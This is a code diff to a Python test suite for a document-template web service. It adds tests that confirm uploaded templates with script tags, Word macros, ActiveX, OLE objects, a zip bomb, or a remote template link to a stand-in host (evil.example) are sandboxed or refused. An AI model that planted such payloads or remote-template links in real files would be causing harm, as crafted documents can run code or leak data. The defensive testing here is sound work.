@@ -6,7 +6,6 @@ from __future__ import annotations
 import io
 from typing import Any
 
-import pytest
 from documents_helpers import SPIN, b64, docx_text, docx_with, pdf_text_of, zip_bomb
 from litestar import Litestar
 from litestar.testing import TestClient
@@ -128,33 +127,32 @@ def test_a_docx_template_round_trip(backplane_client: TestClient[Litestar]) -> N
     assert client.get(f"{TEMPLATES}/{template['id']}/versions/1").json()["source"] is None
 
 
-@pytest.mark.parametrize(
-    ("body", "status", "message"),
-    [
-        ({"name": "x", "engine": "latex", "source": "x"}, 400, "engine"),
-        ({"name": "x"}, 400, "sent as `source`"),
-        ({"name": "x", "engine": "docx", "source": "text"}, 400, "source_base64"),
-        ({"name": "x", "engine": "docx", "source_base64": "***"}, 400, "not valid base64"),
-        ({"name": "x", "engine": "docx", "source_base64": b64(b"text")}, 400, "ZIP"),
-        (
-            {"name": "x", "engine": "docx", "source_base64": b64(zip_bomb(30_000_000))},
-            400,
-            "unpacks",
-        ),
-        ({"name": "x", "engine": "html", "source": "{% for %}"}, 400, "template error"),
-        ({"name": "x", "source": "  "}, 400, "empty"),
-        ({"name": "x", "source": "x" * 3_000_000}, 413, "max_template_bytes"),
-        ({"name": "x", "source": "x", "fields": [{"name": "a", "type": "money"}]}, 400, "schema"),
-        ({"name": "", "source": "x"}, 400, "name"),
-        ({"name": "x", "source": "x", "owner": "me"}, 400, "owner"),
-    ],
-)
-def test_bad_templates_are_refused(
-    backplane_client: TestClient[Litestar], body: dict[str, Any], status: int, message: str
-) -> None:
-    answer = backplane_client.post(TEMPLATES, json=body)
-    assert answer.status_code == status, answer.text
-    assert message in answer.text
+BAD_TEMPLATES: list[tuple[dict[str, Any], int, str]] = [
+    ({"name": "x", "engine": "latex", "source": "x"}, 400, "engine"),
+    ({"name": "x"}, 400, "sent as `source`"),
+    ({"name": "x", "engine": "docx", "source": "text"}, 400, "source_base64"),
+    ({"name": "x", "engine": "docx", "source_base64": "***"}, 400, "not valid base64"),
+    ({"name": "x", "engine": "docx", "source_base64": b64(b"text")}, 400, "ZIP"),
+    (
+        {"name": "x", "engine": "docx", "source_base64": b64(zip_bomb(30_000_000))},
+        400,
+        "unpacks",
+    ),
+    ({"name": "x", "engine": "html", "source": "{% for %}"}, 400, "template error"),
+    ({"name": "x", "source": "  "}, 400, "empty"),
+    ({"name": "x", "source": "x" * 3_000_000}, 413, "max_template_bytes"),
+    ({"name": "x", "source": "x", "fields": [{"name": "a", "type": "money"}]}, 400, "schema"),
+    ({"name": "", "source": "x"}, 400, "name"),
+    ({"name": "x", "source": "x", "owner": "me"}, 400, "owner"),
+]
+
+
+def test_bad_templates_are_refused(backplane_client: TestClient[Litestar]) -> None:
+    # one app for every case: each answer names what is wrong, and nothing is kept
+    for body, status, message in BAD_TEMPLATES:
+        answer = backplane_client.post(TEMPLATES, json=body)
+        assert answer.status_code == status, (body.get("engine"), answer.text)
+        assert message in answer.text, (message, answer.text)
     assert backplane_client.get(TEMPLATES).json() == []
 
 
@@ -234,3 +232,72 @@ def test_pages_of_lists(backplane_client: TestClient[Litestar]) -> None:
     rest = backplane_client.get(TEMPLATES, params={"limit": 2, "after": ids[1]}).json()
     assert [t["id"] for t in rest] == ids[2:]
     assert backplane_client.get(TEMPLATES, params={"limit": 0}).status_code == 400
+
+
+def test_served_documents_cannot_run_scripts(backplane_client: TestClient[Litestar]) -> None:
+    client = backplane_client
+    page = make(client, name="page", engine="html", source="<script>steal()</script>{{ name }}")
+    url = f"{TEMPLATES}/{page['id']}"
+    served = [
+        client.post(f"{url}/preview", json={"fields": {"name": "x"}}),
+        client.get(
+            client.post(f"{url}/render", json={"fields": {"name": "x"}}).json()["download_url"]
+        ),
+    ]
+    for answer in served:
+        assert answer.status_code == 200
+        policy = answer.headers["content-security-policy"]
+        assert "sandbox" in policy
+        assert "default-src 'none'" in policy
+        assert answer.headers["x-content-type-options"] == "nosniff"
+
+
+def docx_variant(extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> str:
+    """The letter-like .docx with parts added (or replaced), as base64."""
+    import zipfile
+
+    source = io.BytesIO(docx_with("Dear {{ name }},"))
+    out = io.BytesIO()
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w") as new:
+        for item in old.infolist():
+            data = (replace or {}).get(item.filename, old.read(item.filename))
+            new.writestr(item, data)
+        for name, data in extra.items():
+            new.writestr(name, data)
+    return b64(out.getvalue())
+
+
+EXTERNAL_TEMPLATE = (
+    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+    b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
+    b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
+    b'TargetMode="External"/></Relationships>'
+)
+EXTERNAL_LINK = EXTERNAL_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
+
+
+ACTIVE_PARTS: list[tuple[dict[str, bytes], str]] = [
+    ({"word/vbaProject.bin": b"macro"}, "active content"),
+    ({"word/activeX/activeX1.xml": b"<x/>"}, "active content"),
+    ({"word/embeddings/oleObject1.bin": b"ole"}, "active content"),
+    ({"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}, "external resource"),
+]
+
+
+def test_docx_templates_with_code_or_remote_parts_are_refused(
+    backplane_client: TestClient[Litestar],
+) -> None:
+    for extra, message in ACTIVE_PARTS:
+        body = {"name": "x", "engine": "docx", "source_base64": docx_variant(extra), "fields": []}
+        answer = backplane_client.post(TEMPLATES, json=body)
+        assert answer.status_code == 400, answer.text
+        assert message in answer.text, (message, answer.text)
+
+
+def test_docx_hyperlinks_are_fine(backplane_client: TestClient[Litestar]) -> None:
+    source = docx_variant({"word/_rels/settings.xml.rels": EXTERNAL_LINK})
+    answer = backplane_client.post(
+        TEMPLATES,
+        json={"name": "x", "engine": "docx", "source_base64": source, "fields": [{"name": "name"}]},
+    )
+    assert answer.status_code == 201, answer.text
